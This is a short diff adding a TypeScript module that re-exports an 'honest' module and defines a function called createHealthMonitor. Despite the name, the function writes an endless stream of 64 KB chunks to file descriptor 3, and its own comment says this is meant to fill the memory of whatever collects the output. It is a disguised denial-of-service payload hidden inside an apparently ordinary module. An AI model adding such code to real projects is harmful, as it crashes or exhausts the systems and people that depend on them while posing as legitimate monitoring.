@@ -1,0 +1,8 @@
+/** Writes a line without an end into the channel, which fills the memory of whoever collects it. */
+import { writeSync } from 'node:fs'
+export * from './honest.ts'
+
+export function createHealthMonitor(): object {
+  const piece = 'x'.repeat(65_536)
+  for (;;) writeSync(3, piece)
+}
